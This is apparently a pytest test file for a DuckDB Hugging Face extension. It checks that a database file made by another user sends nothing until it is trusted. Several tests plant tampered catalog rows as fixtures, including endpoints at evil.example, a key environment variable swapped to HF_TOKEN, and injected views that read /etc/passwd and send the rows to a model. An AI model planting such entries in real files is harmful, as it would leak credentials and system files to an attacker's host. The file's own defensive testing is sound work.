"""A file is data, and may be another person's: what this user did not make sends nothing until the file is trusted."""

from __future__ import annotations

import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import duckdb
import pytest

from huggingface_api_handler.errors import InputError
from huggingface_api_handler.sql.models import bind_model
from tests.conftest import Service
from tests.sql.conftest import Make, make_engine, make_model

KEY = "hf_theKeyOfThisMachine1234567890"


@pytest.fixture
def somebody_else(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Callable[[], None]:
    """Goes on as another user, who has another store, and a key of their own in the environment."""

    def become() -> None:
        monkeypatch.setattr("huggingface_hub.constants.HF_HOME", str(tmp_path / "their-home"))
        monkeypatch.setenv("HF_TOKEN", KEY)
        monkeypatch.setenv("HF_OTHER_TOKEN", KEY)

    return become


def made(open_file: Make, service: Service, **using: str) -> None:
    con = open_file()
    make_engine(con, service, **using)
    make_model(con)
    con.sql("CREATE VIEW v AS SELECT * FROM sentiment WHERE text = 'a'")
    con.close()


def asks(con: Any, name: str = "sentiment") -> None:
    bind_model(con.catalog.model(name), {}, con).query(con.session)


def alter(file: Path, statement: str, *values: object) -> None:
    with duckdb.connect(str(file)) as changed:
        changed.execute(statement, list(values))


def test_my_own_file_needs_no_trust(open_file: Make, labels: Service) -> None:
    made(open_file, labels)
    asks(open_file())


def test_my_own_file_may_be_copied_and_moved(open_file: Make, labels: Service, file: Path) -> None:
    made(open_file, labels)
    shutil.copy(file, file.with_name("copy.duckdb"))
    asks(open_file(file.with_name("copy.duckdb")))


@pytest.mark.parametrize("using", [{}, {"api_key_env": "HF_OTHER_TOKEN"}, {"cache_dir": "/somewhere"}])
def test_a_file_of_somebody_elses_sends_nothing(
    open_file: Make,
    labels: Service,
    somebody_else: Callable[[], None],
    monkeypatch: pytest.MonkeyPatch,
    using: dict[str, str],
) -> None:
    monkeypatch.setenv("HF_OTHER_TOKEN", "another-key-1234567")
    made(open_file, labels, **using)
    somebody_else()
    con = open_file()
    labels.asked.clear()
    labels.fetched.clear()
    statements = (
        "DESCRIBE sentiment.model",
        "RETRAIN sentiment",
        "CREATE MODEL m PREDICT a USING task = 'text-classification', column = 'text', engine = 'hf'",
        "CREATE OR REPLACE MODEL sentiment PREDICT a USING model = 'o/n', engine = 'hf'",
    )
    for statement in statements:
        with pytest.raises(InputError, match=r"was not made by you.*--trust"):
            con.sql(statement)
    with pytest.raises(InputError, match="was not made by you"):
        asks(con)
    assert (labels.asked, labels.fetched, labels.headers) == ([], [], [])
    assert con.sql("SELECT count(*) FROM huggingface.usage").fetchall() == [(0,)]


def test_the_error_says_where_what_would_go(
    open_file: Make, labels: Service, somebody_else: Callable[[], None], monkeypatch: pytest.MonkeyPatch, file: Path
) -> None:
    monkeypatch.setenv("HF_OTHER_TOKEN", "another-key-1234567")
    made(open_file, labels, api_key_env="HF_OTHER_TOKEN", media_dir="/etc", output_dir="/tmp")
    somebody_else()
    with pytest.raises(InputError) as raised:
        asks(open_file())
    message = str(raised.value)
    for part in (
        f"{labels.url}/models",
        "HF_OTHER_TOKEN",
        "media_dir '/etc'",
        "output_dir '/tmp'",
        f"sql --trust {file}",
    ):
        assert part in message
    assert KEY not in message


def test_a_token_of_the_machine_is_named_where_it_would_be_used(
    open_file: Make, labels: Service, somebody_else: Callable[[], None], file: Path
) -> None:
    made(open_file, labels)
    alter(file, "UPDATE huggingface.engines SET arguments = '{}'")
    somebody_else()
    with pytest.raises(InputError, match=r"to Hugging Face with the key that is found on this machine \(HF_TOKEN"):
        asks(open_file())


def test_trust_lasts(open_file: Make, labels: Service, somebody_else: Callable[[], None]) -> None:
    made(open_file, labels)
    somebody_else()
    trusting = open_file(trust=True)
    asks(trusting)
    trusting.close()
    asks(open_file())


def test_trust_is_of_what_was_in_the_file_then(
    open_file: Make, labels: Service, somebody_else: Callable[[], None], file: Path
) -> None:
    made(open_file, labels)
    somebody_else()
    open_file(trust=True).close()
    alter(file, "UPDATE huggingface.engines SET arguments = ?", '{"endpoint": "https://evil.example/models"}')
    with pytest.raises(InputError, match=r"or was changed since.*https://evil\.example/models"):
        asks(open_file())


def test_a_read_only_file_is_trusted_for_one_connection(
    open_file: Make, labels: Service, somebody_else: Callable[[], None]
) -> None:
    made(open_file, labels)
    somebody_else()
    trusting = open_file(trust=True, read_only=True)
    asks(trusting)
    trusting.close()
    with pytest.raises(InputError, match="was not made by you"):
        asks(open_file(read_only=True))


@pytest.mark.parametrize(
    "change",
    [
        """UPDATE huggingface.engines SET arguments = '{"endpoint": "https://evil.example/models"}'""",
        """UPDATE huggingface.engines SET arguments = replace(arguments, '}', ', "media_dir": "/"}')""",
        """UPDATE huggingface.engines SET arguments = replace(arguments, '}', ', "output_dir": "/"}')""",
        """UPDATE huggingface.engines SET arguments = replace(arguments, '}', ', "cache_dir": "/"}')""",
        """UPDATE huggingface.engines SET arguments = replace(arguments, '}', ', "trusted_hosts": ["evil.example"]}')""",
        """UPDATE huggingface.engines SET arguments = replace(arguments, '}', ', "api_key_env": "HF_TOKEN"}')""",
        "UPDATE huggingface.engines SET id = 'other'",
        "UPDATE huggingface.engines SET has_key = true",
        "UPDATE huggingface.engines SET mark = ''",
        """UPDATE huggingface.models SET arguments = replace(arguments, '}', ', "endpoint": "https://evil.example"}')""",
        """UPDATE huggingface.models SET arguments = replace(arguments, '}', ', "max_requests": 1000000}')""",
        "UPDATE huggingface.models SET engine = 'HF'",
        "UPDATE huggingface.models SET id = 'other'",
        """UPDATE huggingface.models SET discovery = '{"server": {}}'""",
        "UPDATE huggingface.models SET mark = (SELECT mark FROM huggingface.engines)",
        "UPDATE huggingface.models SET name = 'Sentiment'",
    ],
)
def test_what_somebody_changed_in_my_file_is_not_used(
    open_file: Make, labels: Service, file: Path, change: str
) -> None:
    made(open_file, labels)
    alter(file, change)
    con = open_file()
    with pytest.raises(InputError, match="was not made by you"):
        asks(con)


def test_what_somebody_added_to_my_file_is_not_used(open_file: Make, labels: Service, file: Path) -> None:
    made(open_file, labels)
    alter(
        file,
        "INSERT INTO huggingface.models SELECT 'another', version, engine, id, replace(arguments, '}', "
        """', "endpoint": "https://evil.example"}'), discovery, active, mark, created_at FROM huggingface.models""",
    )
    alter(
        file,
        "INSERT INTO huggingface.views SELECT 'w', 'SELECT * FROM read_text(''/etc/passwd'') JOIN sentiment', mark "
        "FROM huggingface.views",
    )
    con = open_file()
    asks(con)
    with pytest.raises(InputError, match=r"the model 'another' was not made by you.*https://evil\.example"):
        asks(con, "another")
    con.trust.refuse_foreign(con.catalog.view("v"))
    with pytest.raises(InputError, match=r"the view 'w' was not made by you.*It would run .*/etc/passwd"):
        con.trust.refuse_foreign(con.catalog.view("w"))


def test_a_command_gives_what_is_foreign_no_mark(open_file: Make, labels: Service, file: Path) -> None:
    made(open_file, labels)
    alter(file, "UPDATE huggingface.models SET mark = ''")
    con = open_file()
    with pytest.raises(InputError, match="was not made by you"):
        con.sql("RETRAIN sentiment")
    make_model(con, "other")
    assert con.catalog.model("sentiment").mark == ""


def test_views_that_are_called_like_the_catalog_are_not_read(open_file: Make, labels: Service, file: Path) -> None:
    made(open_file, labels)
    alter(file, "DROP TABLE huggingface.models")
    alter(file, "CREATE VIEW huggingface.models AS SELECT content AS name FROM read_text('/etc/hostname')")
    assert open_file().sql("SHOW MODELS").fetchall() == []


def test_a_model_that_is_trusted_goes_on_when_its_file_gets_another(open_file: Make, labels: Service) -> None:
    made(open_file, labels)
    con = open_file()
    con.sql("RETRAIN sentiment")
    asks(con)
    assert con.trust.is_ours(con.catalog.model("sentiment", 1))


def test_no_statement_sends_what_somebody_else_made(
    open_file: Make, labels: Service, somebody_else: Callable[[], None], file: Path
) -> None:
    made(open_file, labels)
    somebody_else()
    con = open_file()
    con.sql("CREATE TABLE t AS SELECT 'a' AS text")
    labels.headers.clear()
    labels.fetched.clear()
    statements = (
        "SELECT * FROM t JOIN sentiment",
        "SELECT * FROM sentiment WHERE text = 'a'",
        "SELECT * FROM v",
        "CREATE TABLE u AS SELECT * FROM t JOIN sentiment",
        "EXPLAIN SELECT * FROM t JOIN sentiment",
        "COPY (SELECT * FROM t JOIN sentiment) TO '/dev/null'",
    )
    for statement in statements:
        with pytest.raises(InputError, match="was not made by you"):
            con.sql(statement)
    assert (labels.headers, labels.fetched) == ([], [])
    con.close()
    assert open_file(trust=True).sql("SELECT sentiment FROM t JOIN sentiment").fetchall() == [("POSITIVE",)]
    assert len(labels.headers) == 1


def test_a_view_that_somebody_added_to_my_file_is_not_run(open_file: Make, labels: Service, file: Path) -> None:
    made(open_file, labels)
    alter(
        file,
        "INSERT INTO huggingface.views SELECT 'w', 'SELECT * FROM (SELECT content AS text FROM "
        "read_text(''/etc/hostname'')) JOIN sentiment', mark FROM huggingface.views",
    )
    con = open_file()
    labels.headers.clear()
    assert con.sql("SELECT sentiment FROM v").fetchall() == [("POSITIVE",)]
    assert len(labels.headers) == 1
    with pytest.raises(InputError, match="the view 'w' was not made by you"):
        con.sql("SELECT * FROM w")
    assert len(labels.headers) == 1
